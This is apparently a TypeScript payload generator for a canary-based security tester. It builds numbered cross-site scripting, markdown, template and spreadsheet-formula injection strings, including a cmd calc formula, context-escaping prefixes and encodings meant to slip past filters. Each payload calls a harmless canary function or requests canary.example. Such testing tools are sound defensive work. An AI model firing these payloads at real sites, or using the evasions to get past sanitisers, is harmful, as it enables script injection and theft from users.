/** Called by whatever runs. */
export const canary = 'canary'
/** Whatever loads asks a host beneath this one, or an address with this word in it. */
export const canaryHost = 'canary.example'
/** No longer than what the shortest of the places takes: an entry of the trail. */
const longest = 118

export interface Payload {
  id: number
  text: string
}

/** One attack, given the script that it wants to run and the address that it wants to be asked. */
type Vector = (script: string, address: string) => string

const elements: Vector[] = [
  (s) => `<script>${s}</script>`,
  (_, a) => `<script src=${a}></script>`,
  (s) => `<img src=x onerror=${s}>`,
  (s) => `<img src=x onerror="${s}">`,
  (_, a) => `<img src="${a}">`,
  (_, a) => `<img srcset="${a} 2x">`,
  (_, a) => `<picture><source srcset=${a}><img>`,
  (_, a) => `<image href=${a} />`,
  (s) => `<svg onload=${s}>`,
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<svg><animate onbegin=${s} attributeName=x dur=1s>`,
  (s) => `<svg><set onbegin=${s} attributeName=x>`,
  (_, a) => `<svg><use href="${a}#x"/></svg>`,
  (_, a) => `<svg><image href="${a}"/></svg>`,
  (_, a) => `<svg><feImage href="${a}"/></svg>`,
  (s) => `<svg><foreignObject><img src=x onerror=${s}></foreignObject></svg>`,
  (s) => `<svg><a href="javascript:${s}"><text y=20>x</text></a></svg>`,
  (s) => `<math href="javascript:${s}">x</math>`,
  (s) => `<math><mtext><table><mglyph><style><!--</style><img src onerror=${s}>`,
  (s) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${s}>`,
  (s) => `<iframe srcdoc="<script>parent.${s}</script>"></iframe>`,
  (s) => `<iframe src="javascript:parent.${s}"></iframe>`,
  (_, a) => `<iframe src=${a}></iframe>`,
  (_, a) => `<object data=${a}></object>`,
  (_, a) => `<embed src=${a}>`,
  (s) => `<object data="javascript:${s}"></object>`,
  (s) => `<video><source onerror=${s}></video>`,
  (_, a) => `<video poster=${a}></video>`,
  (s) => `<audio src=x onerror=${s}>`,
  (_, a) => `<audio autoplay src=${a}></audio>`,
  (s) => `<details open ontoggle=${s}>x`,
  (s) => `<body onload=${s}>`,
  (s) => `<input autofocus onfocus=${s}>`,
  (s) => `<select autofocus onfocus=${s}>`,
  (s) => `<textarea autofocus onfocus=${s}>`,
  (s) => `<div tabindex=1 autofocus onfocus=${s}>`,
  (_, a) => `<input type=image src=${a}>`,
  (s) => `<marquee onstart=${s}>x</marquee>`,
  (s) => `<style onload=${s}></style>`,
  (_, a) => `<style>@import '${a}';</style>`,
  (_, a) => `<style>*{background:url(${a})}</style>`,
  (_, a) => `<link rel=stylesheet href=${a}>`,
  (_, a) => `<link rel=preload as=image href=${a}>`,
  (_, a) => `<link rel=dns-prefetch href=${a}>`,
  (_, a) => `<link rel=prefetch href=${a}>`,
  (_, a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (s) => `<meta http-equiv=refresh content="0;url=javascript:${s}">`,
  (_, a) => `<base href="${a}/">`,
  (_, a) => `<form action=${a}><button autofocus>x`,
  (s) => `<form><button formaction="javascript:${s}">x`,
  (s) => `<a href="javascript:${s}">x</a>`,
  (s) => `<a href="java&#9;script:${s}">x</a>`,
  (s) => `<a href="&#x6a;avascript:${s}">x</a>`,
  (s) => `<a href="vbscript:${s}">x</a>`,
  (s) => `<a href="data:text/html,<script>${s}</script>">x</a>`,
  (_, a) => `<a ping=${a} href="#">x</a>`,
  (_, a) => `<div style="background:url(${a})">x</div>`,
  (s) => `<div style="width:expression(${s})">x</div>`,
  (_, a) => `<table background=${a}>`,
  (s) => `<div><template shadowrootmode=open><img src=x onerror=${s}></template></div>`,
  (s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`,
  (s) => `<x onpointerenter=${s} style="position:fixed;inset:0">`,
  (s) => `<div popover id=p onbeforetoggle=${s}>x`,
  (s) => `<p contenteditable autofocus onfocusin=${s}>`,
  (s) => `<embed src="data:image/svg+xml,<svg onload=${s}>">`,
]

/** What is read by something that is no HTML parser. */
const others: Vector[] = [
  (s) => `[x](javascript:${s})`,
  (s) => `[x](JaVaScRiPt:${s} "title")`,
  (s) => `[x](java\tscript:${s})`,
  (s) => `[x](<javascript:${s}>)`,
  (s) => `[x][1] [1]: javascript:${s}`,
  (s) => `<javascript:${s}>`,
  (s) => `[x](data:text/html,<script>${s}</script>)`,
  (s) => `[x](vbscript:${s})`,
  (_, a) => `![x](${a})`,
  (_, a) => `![x](${a} "title")`,
  (_, a) => `![x][1] [1]: ${a}`,
  (_, a) => `[![x](${a})](${a})`,
  (s, a) => `[x](${a}"onmouseover="${s})`,
  (s) => `\`\`\`html <img src=x onerror=${s}> \`\`\``,
  (s) => `**<img src=x onerror=${s}>**`,
  (s) => `| a | <svg onload=${s}> |`,
  (s) => `> <details open ontoggle=${s}>`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => `{{${s}}}`,
  (s) => `\${${s}}`,
  (s) => `#{${s}}`,
  (s) => `<%= ${s} %>`,
  (s) => `{%raw%}${s}{%endraw%}`,
  (s) => `javascript:${s}`,
  (s) => `JAVASCRIPT:${s}`,
  (s) => `javascript://%0a${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (_, a) => a,
  (_, a) => `//${a.slice('http://'.length)}`,
  (_, a) => `\\\\${a.slice('http://'.length)}\\x`,
  (_, a) => `${a}/"onmouseover="x`,
  (_, a) => `${a}/<b>x</b>`,
  (_, a) => `http://user@${a.slice('http://'.length)}`,
  (s) => `"};${s};//`,
  (s) => `'});${s};//`,
  (s) => `");${s};("`,
  (s) => `\\u003cimg src=x onerror=${s}\\u003e`,
  (s) => `\\x3cscript\\x3e${s}\\x3c/script\\x3e`,
  (s) => `<!--<script>${s}//-->`,
  (s) => `\u2028${s}\u2029`,
  (_, a) => `=HYPERLINK("${a}","x")`,
  (_, a) => `=IMPORTXML("${a}","//a")`,
  (_, a) => `=WEBSERVICE("${a}")`,
  () => `+cmd|' /C calc'!A0`,
  () => `-2+3+cmd|' /C calc'!A0`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
  (_, a) => `";=IMAGE("${a}")`,
]

/** What an attack stands behind: the end of whatever it might be written into. */
const ends = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '`>',
  '" x="',
  '</select>',
]

/** The same attack in other letters, so that whoever looks for it does not find it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\/?)(\w+)/g, (_, slash: string, name: string) => `<${slash}${alternate(name)}`),
  (text) => text.replaceAll(/<(\w+) /g, '<$1/'),
  (text) => text.replaceAll(/<(\w+) /g, '<$1\t'),
  (text) => `<${text}`,
  (text) => text.replace(/>$/, ''),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('script', '\u017fcript').replaceAll('img', '\u0131mg'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => `<![CDATA[${text}]]>`,
]

const alternate = (name: string) => Array.from(name, (sign, n) => (n % 2 ? sign.toUpperCase() : sign)).join('')

/**
 * `count` attacks, each with an id of its own that it calls the canary with and asks for: every element and every other vector as it stands, then
 * behind each end, then in each disguise, in an order that is always the same.
 */
export function payloads(count: number): Payload[] {
  const made: Payload[] = []
  const shapes = new Set<string>()
  const add = (vector: Vector, dress: (text: string) => string) => {
    const id = made.length
    const text = dress(vector(`${canary}(${id})`, `http://p${id}.${canaryHost}`))
    const shape = dress(vector(`${canary}()`, `http://p.${canaryHost}`))
    if (made.length >= count || text.length > longest || shapes.has(shape)) return
    shapes.add(shape)
    made.push({ id, text })
  }
  for (const vector of [...elements, ...others]) add(vector, (text) => text)
  for (let round = 0; made.length < count; round++) {
    for (const [n, vector] of elements.entries()) {
      const end = ends[(n + round) % ends.length] ?? ''
      const disguise = disguises[(n * 3 + round) % disguises.length] ?? ((text: string) => text)
      add(vector, round % 2 === 0 ? (text) => end + text : disguise)
    }
  }
  return made
}
